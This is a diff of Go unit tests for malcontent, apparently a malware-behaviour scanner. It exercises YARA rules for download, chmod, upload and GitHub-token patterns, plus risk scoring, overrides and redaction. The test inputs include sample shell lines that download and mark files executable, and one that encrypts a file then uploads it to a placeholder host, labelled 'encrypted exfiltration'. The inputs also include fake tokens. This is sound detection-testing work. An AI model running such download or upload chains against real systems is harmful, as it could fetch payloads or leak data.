@@ -2,8 +2,18 @@ package report
 
 import (
 	"context"
+	"fmt"
+	"maps"
+	"os"
+	"path/filepath"
 	"reflect"
+	"slices"
+	"strings"
+	"sync"
 	"testing"
+
+	yarax "github.com/VirusTotal/yara-x/go"
+	"github.com/chainguard-dev/malcontent/pkg/malcontent"
 )
 
 func TestLongestUnique(t *testing.T) {
@@ -90,3 +100,1049 @@ func TestUpgradeRisk(t *testing.T) {
 		})
 	}
 }
+
+// compileTestRules compiles YARA source within a namespace, mirroring compile.Recursive.
+func compileTestRules(t testing.TB, sources map[string]string) *yarax.Rules {
+	t.Helper()
+	yxc, err := yarax.NewCompiler()
+	if err != nil {
+		t.Fatalf("compiler: %v", err)
+	}
+	for _, ns := range slices.Sorted(maps.Keys(sources)) {
+		yxc.NewNamespace(ns)
+		if err := yxc.AddSource(sources[ns], yarax.WithOrigin(ns)); err != nil {
+			t.Fatalf("compile %s: %v", ns, err)
+		}
+	}
+	return yxc.Build()
+}
+
+func TestOnMatch(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{"test/on_match.yara": `
+rule first_rule : low {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+
+rule second_rule : high {
+	strings:
+		$a = "wget"
+		$b = "chmod"
+	condition:
+		any of them
+}
+`})
+
+	fc := []byte("#!/bin/sh\ncurl -O https://example.com/x && wget https://example.com/y && chmod +x x\n")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	var mu sync.Mutex
+	calls := 0
+	c := malcontent.Config{
+		MinRisk: malcontent.RiskMedium,
+		OnMatch: func(ruleID, path string, strings []string) {
+			mu.Lock()
+			defer mu.Unlock()
+			if path != "test.sh" {
+				t.Errorf("OnMatch path = %q, want %q", path, "test.sh")
+			}
+			if len(strings) == 0 {
+				t.Errorf("OnMatch(%s) received no strings", ruleID)
+			}
+			calls++
+		},
+	}
+
+	fr, err := Generate(ctx, "test.sh", mrs, c, "", nil, fc, nil)
+	if err != nil {
+		t.Fatalf("generate: %v", err)
+	}
+
+	// One invocation per matching rule, even though both rules share a behavior ID and the LOW rule
+	// falls below MinRisk
+	if calls != 2 {
+		t.Errorf("OnMatch invoked %d times, want 2", calls)
+	}
+	if len(fr.Behaviors) != 1 || fr.Behaviors[0].RuleName != "second_rule" {
+		t.Errorf("behaviors = %+v, want only second_rule", fr.Behaviors)
+	}
+}
+
+func TestCorroborationThreshold(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"test/download.yara": `
+rule download : high {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+		"test/permissions.yara": `
+rule permissions : high {
+	strings:
+		$a = "chmod"
+	condition:
+		$a
+}
+`,
+	})
+
+	tests := []struct {
+		name      string
+		content   string
+		threshold int
+		want      malcontent.RiskLevel
+	}{
+		{"single rule, no threshold", "curl -O https://example.com/x", 0, malcontent.RiskHigh},
+		{"single rule, threshold 2", "curl -O https://example.com/x", 2, malcontent.RiskMedium},
+		{"two rules, threshold 2", "curl -O https://example.com/x && chmod +x x", 2, malcontent.RiskHigh},
+		{"two rules, threshold 3", "curl -O https://example.com/x && chmod +x x", 3, malcontent.RiskMedium},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			fc := []byte(tt.content)
+			mrs, err := yrs.Scan(fc)
+			if err != nil {
+				t.Fatalf("scan: %v", err)
+			}
+
+			c := malcontent.Config{CorroborationThreshold: tt.threshold}
+			fr, err := Generate(ctx, "test.sh", mrs, c, "", nil, fc, nil)
+			if err != nil {
+				t.Fatalf("generate: %v", err)
+			}
+			if fr.RiskLevel != tt.want {
+				t.Errorf("RiskLevel = %s, want %s", fr.RiskLevel, tt.want)
+			}
+		})
+	}
+}
+
+func TestCombinationRules(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"net/upload.yara": `
+rule upload : medium {
+	strings:
+		$a = "curl -T"
+	condition:
+		$a
+}
+`,
+		"crypto/encrypt.yara": `
+rule encrypt : medium {
+	strings:
+		$a = "openssl enc"
+	condition:
+		$a
+}
+`,
+	})
+	rules := []malcontent.CombinationRule{
+		{Name: "encrypted exfiltration", Behaviors: []string{"net/upload", "crypto/*"}, RiskLevel: malcontent.RiskHigh},
+	}
+
+	tests := []struct {
+		name    string
+		content string
+		want    malcontent.RiskLevel
+		meta    string
+	}{
+		{"one behavior", "curl -T x https://example.com", malcontent.RiskMedium, ""},
+		{"both behaviors", "openssl enc -in x -out y && curl -T y https://example.com", malcontent.RiskHigh, "encrypted exfiltration"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			fc := []byte(tt.content)
+			mrs, err := yrs.Scan(fc)
+			if err != nil {
+				t.Fatalf("scan: %v", err)
+			}
+
+			fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{CombinationRules: rules}, "", nil, fc, nil)
+			if err != nil {
+				t.Fatalf("generate: %v", err)
+			}
+			if fr.RiskLevel != tt.want {
+				t.Errorf("RiskLevel = %s, want %s", fr.RiskLevel, tt.want)
+			}
+			if got := fr.Meta["combination"]; got != tt.meta {
+				t.Errorf("Meta[combination] = %q, want %q", got, tt.meta)
+			}
+		})
+	}
+}
+
+func TestScoreFunc(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"net/download.yara": `
+rule download : medium {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+		"fs/permissions.yara": `
+rule permissions : medium {
+	strings:
+		$a = "chmod"
+	condition:
+		$a
+}
+`,
+	})
+	fc := []byte("curl -O https://example.com/x && chmod +x x")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	sumCapped := func(behaviors []*malcontent.Behavior) (int, string) {
+		sum := 0
+		for _, b := range behaviors {
+			sum += b.RiskScore
+		}
+		return min(sum, CRITICAL), ""
+	}
+	countHigh := func(behaviors []*malcontent.Behavior) (int, string) {
+		n := 0
+		for _, b := range behaviors {
+			if b.RiskScore >= HIGH {
+				n++
+			}
+		}
+		return min(n, CRITICAL), ""
+	}
+
+	tests := []struct {
+		name      string
+		score     func([]*malcontent.Behavior) (int, string)
+		wantScore int
+		wantLevel malcontent.RiskLevel
+		wantErr   bool
+	}{
+		{"default", nil, MEDIUM, malcontent.RiskMedium, false},
+		{"sum capped", sumCapped, CRITICAL, malcontent.RiskCritical, false},
+		{"count of high", countHigh, HARMLESS, malcontent.RiskNone, false},
+		{"named level", func([]*malcontent.Behavior) (int, string) { return HIGH, "crit" }, HIGH, malcontent.RiskCritical, false},
+		{"unknown level", func([]*malcontent.Behavior) (int, string) { return HIGH, "2 HIGH" }, 0, 0, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{ScoreFunc: tt.score}, "", nil, fc, nil)
+			if tt.wantErr {
+				if err == nil {
+					t.Errorf("generate succeeded with RiskLevel %s, want an error", fr.RiskLevel)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("generate: %v", err)
+			}
+			if len(fr.Behaviors) != 2 {
+				t.Fatalf("got %d behaviors, want 2", len(fr.Behaviors))
+			}
+			if fr.RiskScore != tt.wantScore || fr.RiskLevel != tt.wantLevel {
+				t.Errorf("RiskScore, RiskLevel = %d, %s, want %d, %s", fr.RiskScore, fr.RiskLevel, tt.wantScore, tt.wantLevel)
+			}
+		})
+	}
+}
+
+func TestDefaultRisk(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+	high := func(id string) *malcontent.Behavior { return &malcontent.Behavior{ID: id, RiskScore: HIGH} }
+	combine := malcontent.Config{CombinationRules: []malcontent.CombinationRule{{Behaviors: []string{"a", "b"}, RiskLevel: malcontent.RiskCritical}}}
+
+	tests := []struct {
+		name      string
+		c         malcontent.Config
+		behaviors []*malcontent.Behavior
+		counts    map[int]int
+		want      int
+	}{
+		{"no behaviors", malcontent.Config{}, nil, nil, HARMLESS},
+		{"highest behavior", malcontent.Config{}, []*malcontent.Behavior{{ID: "a", RiskScore: LOW}, high("b")}, nil, HIGH},
+		{"uncorroborated", malcontent.Config{CorroborationThreshold: 2}, []*malcontent.Behavior{high("a")}, nil, MEDIUM},
+		{"combination", combine, []*malcontent.Behavior{high("a"), high("b")}, nil, CRITICAL},
+		{"quantity", malcontent.Config{QuantityIncreasesRisk: true}, []*malcontent.Behavior{high("a"), high("b")}, map[int]int{HIGH: 2}, CRITICAL},
+		{"quantity unset", malcontent.Config{}, []*malcontent.Behavior{high("a"), high("b")}, map[int]int{HIGH: 2}, HIGH},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			fr := &malcontent.FileReport{Behaviors: tt.behaviors, Meta: map[string]string{}}
+			if got := defaultRisk(ctx, tt.c, fr, tt.counts, 100); got != tt.want {
+				t.Errorf("defaultRisk() = %d, want %d", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestEscalatedRisk(t *testing.T) {
+	t.Parallel()
+	behaviors := []*malcontent.Behavior{{ID: "net/upload"}, {ID: "crypto/encrypt/aes"}}
+	rules := []malcontent.CombinationRule{
+		{Behaviors: []string{"net/upload", "exec/shell"}, RiskLevel: malcontent.RiskCritical},
+		{Behaviors: []string{"net/upload", "crypto/encrypt/*"}, RiskLevel: malcontent.RiskHigh},
+		{Name: "lower", Behaviors: []string{"net/upload"}, RiskLevel: malcontent.RiskLow},
+	}
+
+	fr := &malcontent.FileReport{Behaviors: behaviors, Meta: map[string]string{}}
+	if got := escalatedRisk(fr, MEDIUM, rules); got != HIGH {
+		t.Errorf("escalatedRisk() = %d, want %d", got, HIGH)
+	}
+	if got, want := fr.Meta["combination"], "net/upload + crypto/encrypt/*"; got != want {
+		t.Errorf("Meta[combination] = %q, want %q", got, want)
+	}
+
+	fr = &malcontent.FileReport{Behaviors: behaviors, Meta: map[string]string{}}
+	if got := escalatedRisk(fr, CRITICAL, rules); got != CRITICAL || len(fr.Meta) != 0 {
+		t.Errorf("escalatedRisk() = %d with meta %v, want %d unchanged", got, fr.Meta, CRITICAL)
+	}
+
+	for _, bad := range [][]malcontent.CombinationRule{
+		{{RiskLevel: malcontent.RiskHigh}},
+		{{Behaviors: []string{"net/["}, RiskLevel: malcontent.RiskHigh}},
+		{{Behaviors: []string{"net/upload"}}},
+		{{Behaviors: []string{"net/upload"}, RiskLevel: malcontent.RiskCritical + 1}},
+	} {
+		if err := ValidateCombinationRules(bad); err == nil {
+			t.Errorf("ValidateCombinationRules(%+v) = nil, want error", bad)
+		}
+	}
+	if err := ValidateCombinationRules(rules); err != nil {
+		t.Errorf("ValidateCombinationRules() = %v", err)
+	}
+}
+
+func TestMinConfidence(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"test/vetted.yara": `
+rule vetted : high {
+	meta:
+		confidence = 4
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+		"test/noisy.yara": `
+rule noisy : high {
+	meta:
+		confidence = "2"
+	strings:
+		$a = "chmod"
+	condition:
+		$a
+}
+`,
+		"test/unrated.yara": `
+rule unrated : medium {
+	strings:
+		$a = "mkdir"
+	condition:
+		$a
+}
+`,
+	})
+
+	fc := []byte("mkdir x && curl -O https://example.com/x/y && chmod +x x/y")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	tests := []struct {
+		name       string
+		min        int
+		defaultVal int
+		want       []string
+	}{
+		{"no threshold", 0, 0, []string{"test/noisy", "test/unrated", "test/vetted"}},
+		{"threshold 3", 3, 0, []string{"test/vetted"}},
+		{"threshold 3, default 3", 3, 3, []string{"test/unrated", "test/vetted"}},
+		{"threshold 5", 5, 0, nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			c := malcontent.Config{MinConfidence: tt.min, DefaultConfidence: tt.defaultVal}
+			fr, err := Generate(ctx, "test.sh", mrs, c, "", nil, fc, nil)
+			if err != nil {
+				t.Fatalf("generate: %v", err)
+			}
+
+			var got []string
+			for _, b := range fr.Behaviors {
+				got = append(got, b.ID)
+			}
+			slices.Sort(got)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("behaviors = %v, want %v", got, tt.want)
+			}
+			if filtered := 3 - len(tt.want); fr.FilteredBehaviors != filtered {
+				t.Errorf("FilteredBehaviors = %d, want %d", fr.FilteredBehaviors, filtered)
+			}
+		})
+	}
+}
+
+func TestDedupBehaviors(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	// Both rules are in one file, so they describe the same behavior ID
+	yrs := compileTestRules(t, map[string]string{"test/download.yara": `
+rule curl_download : medium {
+	meta:
+		description = "downloads files"
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+
+rule wget_download : high {
+	meta:
+		description = "fetch"
+	strings:
+		$a = "wget"
+	condition:
+		$a
+}
+`})
+
+	fc := []byte("curl -O https://example.com/a || wget https://example.com/a")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{KeepDuplicateBehaviors: true}, "", nil, fc, nil)
+	if err != nil {
+		t.Fatalf("generate: %v", err)
+	}
+	rules := make([]string, 0, len(fr.Behaviors))
+	for _, b := range fr.Behaviors {
+		rules = append(rules, b.RuleName)
+	}
+	if want := []string{"curl_download", "wget_download"}; !slices.Equal(rules, want) {
+		t.Errorf("raw behaviors = %v, want %v", rules, want)
+	}
+
+	fr, err = Generate(ctx, "test.sh", mrs, malcontent.Config{}, "", nil, fc, nil)
+	if err != nil {
+		t.Fatalf("generate: %v", err)
+	}
+	if len(fr.Behaviors) != 1 {
+		t.Fatalf("got %d behaviors, want the two rules merged into one: %+v", len(fr.Behaviors), fr.Behaviors)
+	}
+	b := fr.Behaviors[0]
+	if b.ID != "test/download" || b.RuleName != "wget_download" || b.RiskScore != HIGH || b.Description != "fetch" {
+		t.Errorf("merged behavior = %+v, want the HIGH wget_download rule", b)
+	}
+	ms := slices.Sorted(slices.Values(b.MatchStrings))
+	if want := []string{"curl", "wget"}; !slices.Equal(ms, want) {
+		t.Errorf("merged match strings = %v, want %v", ms, want)
+	}
+}
+
+func TestMergeBehaviors(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name       string
+		existing   malcontent.Behavior
+		b          malcontent.Behavior
+		maxStrings int
+		want       malcontent.Behavior
+	}{
+		{
+			name:     "riskier wins",
+			existing: malcontent.Behavior{Description: "a longer description", MatchStrings: []string{"curl"}, RiskScore: MEDIUM, RuleName: "a"},
+			b:        malcontent.Behavior{Description: "short", MatchStrings: []string{"wget"}, RiskScore: HIGH, RuleName: "b"},
+			want:     malcontent.Behavior{Description: "short", MatchStrings: []string{"curl", "wget"}, RiskScore: HIGH, RuleName: "b"},
+		},
+		{
+			name:     "longer description of equal risk",
+			existing: malcontent.Behavior{Description: "short", MatchStrings: []string{"curl -O"}, RiskScore: HIGH, RuleName: "a"},
+			b:        malcontent.Behavior{Description: "a longer description", MatchStrings: []string{"curl"}, RiskScore: HIGH, RuleName: "b"},
+			want:     malcontent.Behavior{Description: "a longer description", MatchStrings: []string{"curl -O"}, RiskScore: HIGH, RuleName: "a"},
+		},
+		{
+			name:       "truncated",
+			existing:   malcontent.Behavior{MatchStrings: []string{"chmod", "curl"}, RiskScore: LOW, RuleName: "a", TruncatedMatches: 1},
+			b:          malcontent.Behavior{MatchStrings: []string{"wget"}, RiskScore: LOW, RuleName: "b"},
+			maxStrings: 2,
+			// Which of the equally long strings is kept is unspecified
+			want: malcontent.Behavior{RiskScore: LOW, RuleName: "a", TruncatedMatches: 2},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			got := mergeBehaviors(&tt.existing, &tt.b, tt.maxStrings)
+			got.MatchStrings = slices.Sorted(slices.Values(got.MatchStrings))
+			if tt.maxStrings == 0 && !reflect.DeepEqual(*got, tt.want) {
+				t.Errorf("mergeBehaviors() = %+v, want %+v", *got, tt.want)
+			}
+			if tt.maxStrings > 0 && (len(got.MatchStrings) != tt.maxStrings || got.TruncatedMatches != tt.want.TruncatedMatches) {
+				t.Errorf("mergeBehaviors() = %+v, want %d match strings and %d truncated", *got, tt.maxStrings, tt.want.TruncatedMatches)
+			}
+		})
+	}
+}
+
+func TestRuleMetadata(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"test/documented.yara": `
+rule documented : medium {
+	meta:
+		description = "documented rule"
+		author      = "Jane Doe (https://example.com/jane)"
+		license     = "Apache-2.0"
+		license_url = "https://www.apache.org/licenses/LICENSE-2.0"
+		reference   = "https://example.com/advisory"
+		ref         = "https://example.com/writeup"
+		reference   = "https://example.com/advisory"
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+	})
+	fc := []byte("curl -O https://example.com/x")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{}, "", nil, fc, nil)
+	if err != nil {
+		t.Fatalf("generate: %v", err)
+	}
+	if len(fr.Behaviors) != 1 {
+		t.Fatalf("got %d behaviors, want 1", len(fr.Behaviors))
+	}
+
+	b := fr.Behaviors[0]
+	want := malcontent.Behavior{
+		ReferenceURL:   "https://example.com/advisory https://example.com/writeup",
+		RuleAuthor:     "Jane Doe",
+		RuleAuthorURL:  "https://example.com/jane",
+		RuleLicense:    "Apache-2.0",
+		RuleLicenseURL: "https://www.apache.org/licenses/LICENSE-2.0",
+	}
+	got := malcontent.Behavior{
+		ReferenceURL:   b.ReferenceURL,
+		RuleAuthor:     b.RuleAuthor,
+		RuleAuthorURL:  b.RuleAuthorURL,
+		RuleLicense:    b.RuleLicense,
+		RuleLicenseURL: b.RuleLicenseURL,
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("metadata = %+v, want %+v", got, want)
+	}
+	if refs := b.ReferenceURLs(); len(refs) != 2 {
+		t.Errorf("ReferenceURLs() = %v, want 2 URLs", refs)
+	}
+}
+
+func TestReferenceURLs(t *testing.T) {
+	t.Parallel()
+	ruleURL := "https://github.com/YARAHQ/yara-forge/blob/main/rules/x.yar#rule"
+	tests := []struct {
+		name          string
+		refs          []string
+		authorURL     string
+		want          string
+		wantAuthorURL string
+	}{
+		{"none", nil, "https://example.com/author", "", "https://example.com/author"},
+		{"joined", []string{"https://a.example", "https://b.example"}, "", "https://a.example https://b.example", ""},
+		{"yara forge author", []string{"https://github.com/YARAHQ/yara-forge", "https://b.example"}, "", "https://b.example", "https://github.com/YARAHQ/yara-forge"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			got, gotAuthorURL := referenceURLs(tt.refs, ruleURL, tt.authorURL)
+			if got != tt.want || gotAuthorURL != tt.wantAuthorURL {
+				t.Errorf("referenceURLs() = %q, %q, want %q, %q", got, gotAuthorURL, tt.want, tt.wantAuthorURL)
+			}
+		})
+	}
+}
+
+func TestOmitMatchStrings(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"test/download.yara": `
+rule download : medium {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+	})
+	fc := []byte("curl -O https://example.com/x")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	var onMatch []string
+	c := malcontent.Config{
+		MaxMatchStrings:  1,
+		OmitMatchStrings: true,
+		OnMatch: func(_, _ string, ms []string) {
+			onMatch = append(onMatch, ms...)
+		},
+	}
+	fr, err := Generate(ctx, "test.sh", mrs, c, "", nil, fc, nil)
+	if err != nil {
+		t.Fatalf("generate: %v", err)
+	}
+	if len(fr.Behaviors) != 1 {
+		t.Fatalf("got %d behaviors, want 1", len(fr.Behaviors))
+	}
+
+	// The behavior is still reported, without any trace of the content
+	b := fr.Behaviors[0]
+	if b.ID != "test/download" || b.RuleName != "download" || b.RiskLevel != malcontent.RiskMedium {
+		t.Errorf("behavior = %+v, want test/download at MEDIUM", b)
+	}
+	if b.MatchStrings != nil || b.TruncatedMatches != 0 || onMatch != nil {
+		t.Errorf("MatchStrings = %v, TruncatedMatches = %d, OnMatch strings = %v, want none", b.MatchStrings, b.TruncatedMatches, onMatch)
+	}
+}
+
+func TestRedactMatches(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"test/token.yara": `
+rule token : high {
+	meta:
+		sensitive = true
+	strings:
+		$a = /ghp_[A-Za-z0-9]{8}/
+	condition:
+		$a
+}
+`,
+		"test/download.yara": `
+rule download : medium {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+	})
+
+	fc := []byte("GITHUB_TOKEN=ghp_abcd1234 curl -H ghp_wxyz9876 https://example.com/")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	generate := func(mode string) map[string][]string {
+		t.Helper()
+		fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{RedactMatches: mode}, "", nil, fc, nil)
+		if err != nil {
+			t.Fatalf("generate: %v", err)
+		}
+		got := map[string][]string{}
+		for _, b := range fr.Behaviors {
+			got[b.ID] = b.MatchStrings
+		}
+		return got
+	}
+
+	plain := generate(RedactOff)
+	if len(plain["test/token"]) != 2 {
+		t.Fatalf("unredacted token matches = %v, want 2", plain["test/token"])
+	}
+
+	masked := generate(RedactMask)
+	if want := []string{RedactedMask}; !slices.Equal(masked["test/token"], want) {
+		t.Errorf("masked token matches = %v, want %v", masked["test/token"], want)
+	}
+
+	// Hashes keep distinct secrets distinct, so every match is still accounted for
+	hashed := generate(RedactHash)
+	if len(hashed["test/token"]) != len(plain["test/token"]) {
+		t.Errorf("hashed token matches = %v, want %d", hashed["test/token"], len(plain["test/token"]))
+	}
+	for _, m := range hashed["test/token"] {
+		if !strings.HasPrefix(m, "sha256:") || strings.Contains(m, "ghp_") {
+			t.Errorf("hashed match %q leaks the secret or lacks the sha256: prefix", m)
+		}
+	}
+
+	// Rules without sensitive metadata are left alone
+	for _, got := range []map[string][]string{masked, hashed} {
+		if !slices.Equal(got["test/download"], plain["test/download"]) {
+			t.Errorf("download matches = %v, want %v", got["test/download"], plain["test/download"])
+		}
+	}
+
+	if err := ValidateRedactMatches("scramble"); err == nil {
+		t.Error(`ValidateRedactMatches("scramble") succeeded, want error`)
+	}
+}
+
+func TestRiskOverrides(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{
+		"test/fetch.yara": `
+rule fetch : high {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`,
+		"test/perms.yara": `
+rule perms : high {
+	strings:
+		$a = "chmod"
+	condition:
+		$a
+}
+`,
+		"test/dirs.yara": `
+rule dirs : medium {
+	strings:
+		$a = "mkdir"
+	condition:
+		$a
+}
+`,
+	})
+
+	fc := []byte("mkdir x && curl -O https://example.com/x/y && chmod +x x/y")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	dir := t.TempDir()
+	tests := []struct {
+		name      string
+		overrides string
+		want      map[string]int
+	}{
+		{"none", "", map[string]int{"test/dirs": MEDIUM, "test/fetch": HIGH, "test/perms": HIGH}},
+		{"downgrade filtered by min risk", "test/fetch: low\n", map[string]int{"test/dirs": MEDIUM, "test/perms": HIGH}},
+		{"drop", `{"perms": "drop"}`, map[string]int{"test/dirs": MEDIUM, "test/fetch": HIGH}},
+		{"upgrade", "dirs: 4\n", map[string]int{"test/dirs": CRITICAL, "test/fetch": HIGH, "test/perms": HIGH}},
+		// rule names beat behavior IDs, which beat globs; longer globs beat shorter ones
+		{"precedence", "test/*: low\ntest/p*: critical\ntest/fetch: critical\nfetch: medium\n", map[string]int{"test/fetch": MEDIUM, "test/perms": CRITICAL}},
+	}
+
+	for i, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			c := malcontent.Config{MinRisk: malcontent.RiskMedium}
+			if tt.overrides != "" {
+				c.OverridesFile = filepath.Join(dir, fmt.Sprintf("overrides%d.yaml", i))
+				if err := os.WriteFile(c.OverridesFile, []byte(tt.overrides), 0o600); err != nil {
+					t.Fatal(err)
+				}
+			}
+
+			fr, err := Generate(ctx, "test.sh", mrs, c, "", nil, fc, nil)
+			if err != nil {
+				t.Fatalf("generate: %v", err)
+			}
+
+			got := map[string]int{}
+			for _, b := range fr.Behaviors {
+				got[b.ID] = b.RiskScore
+			}
+			if !maps.Equal(got, tt.want) {
+				t.Errorf("behaviors = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadOverridesInvalid(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+
+	for _, content := range []string{"fetch: severe\n", "fetch: [low]\n", "'[': low\n"} {
+		p := filepath.Join(dir, "overrides.yaml")
+		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := LoadOverrides(p); err == nil {
+			t.Errorf("LoadOverrides(%q) succeeded, want error", content)
+		}
+	}
+}
+
+func TestOverridesFor(t *testing.T) {
+	t.Parallel()
+	p := filepath.Join(t.TempDir(), "overrides.yaml")
+	if err := os.WriteFile(p, []byte("fetch: low\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	c := malcontent.Config{OverridesFile: p}
+
+	first, err := LoadOverrides(p)
+	if err != nil {
+		t.Fatalf("LoadOverrides: %v", err)
+	}
+	ctx := WithOverrides(context.Background(), first)
+
+	// Later scans see the file as it is now, while the scan that loaded it keeps its copy
+	if err := os.WriteFile(p, []byte("fetch: high\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if got, err := OverridesFor(ctx, c); err != nil || got != first {
+		t.Errorf("OverridesFor(scan) = %v, %v, want the overrides recorded with WithOverrides", got, err)
+	}
+	later, err := OverridesFor(context.Background(), c)
+	if err != nil {
+		t.Fatalf("OverridesFor: %v", err)
+	}
+	if later.digest == first.digest || later.exact["fetch"].risk != HIGH {
+		t.Errorf("OverridesFor(later scan) = %+v, want the rewritten file", later)
+	}
+
+	// Overrides recorded for another file are not applied
+	other := c
+	other.OverridesFile = ""
+	if got, err := OverridesFor(ctx, other); got != nil || err != nil {
+		t.Errorf("OverridesFor(no overrides file) = %v, %v, want nil, nil", got, err)
+	}
+}
+
+func TestFingerprint(t *testing.T) {
+	b := &malcontent.Behavior{ID: "net/download", MatchStrings: []string{"curl", "wget"}}
+	want := Fingerprint("sub/payload.sh", b)
+	if len(want) != 64 {
+		t.Fatalf("Fingerprint() = %q, want a hex SHA256", want)
+	}
+
+	same := []*malcontent.Behavior{
+		{ID: "net/download", MatchStrings: []string{"wget", "curl", "curl"}},
+		{ID: "net/download", MatchStrings: []string{"curl", "wget"}, RiskScore: 3, RuleURL: "https://example.com"},
+	}
+	for _, sb := range same {
+		if got := Fingerprint("sub/payload.sh", sb); got != want {
+			t.Errorf("Fingerprint(%+v) = %s, want %s", sb, got, want)
+		}
+	}
+
+	different := map[string]*malcontent.Behavior{
+		"other/payload.sh":               b,
+		"sub/payload.sh":                 {ID: "net/upload", MatchStrings: b.MatchStrings},
+		"sub/payload.sh\x00net/download": {ID: "", MatchStrings: b.MatchStrings},
+	}
+	for path, db := range different {
+		if got := Fingerprint(path, db); got == want {
+			t.Errorf("Fingerprint(%q, %+v) = %s, want a different fingerprint", path, db, got)
+		}
+	}
+	if got := Fingerprint("sub/payload.sh", &malcontent.Behavior{ID: "net/download", MatchStrings: []string{"curl"}}); got == want {
+		t.Errorf("Fingerprint() with fewer match strings = %s, want a different fingerprint", got)
+	}
+}
+
+func TestFilterRuleIDs(t *testing.T) {
+	t.Parallel()
+	behaviors := func() []*malcontent.Behavior {
+		return []*malcontent.Behavior{
+			{ID: "anti-static/obfuscation/hex", RuleName: "hex_blob"},
+			{ID: "exfil/upload", RuleName: "curl_upload"},
+			{ID: "net/download", RuleName: "curl_download"},
+		}
+	}
+
+	tests := []struct {
+		name    string
+		exclude []string
+		include []string
+		want    []string
+	}{
+		{"no lists", nil, nil, []string{"anti-static/obfuscation/hex", "exfil/upload", "net/download"}},
+		{"exclude glob", []string{"anti-static/*/*"}, nil, []string{"exfil/upload", "net/download"}},
+		{"exclude rule name", []string{"curl_download"}, nil, []string{"anti-static/obfuscation/hex", "exfil/upload"}},
+		{"include glob", nil, []string{"exfil/*", "net/download"}, []string{"exfil/upload", "net/download"}},
+		{"include rule name", nil, []string{"hex_blob"}, []string{"anti-static/obfuscation/hex"}},
+		{"exclude wins over include", []string{"net/*"}, []string{"exfil/*", "net/*"}, []string{"exfil/upload"}},
+		{"include matching nothing", nil, []string{"persist/*"}, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			c := malcontent.Config{ExcludeRuleIDs: tt.exclude, IncludeRuleIDs: tt.include}
+			kept, dropped := filterRuleIDs(c, behaviors())
+			var got []string
+			for _, b := range kept {
+				got = append(got, b.ID)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
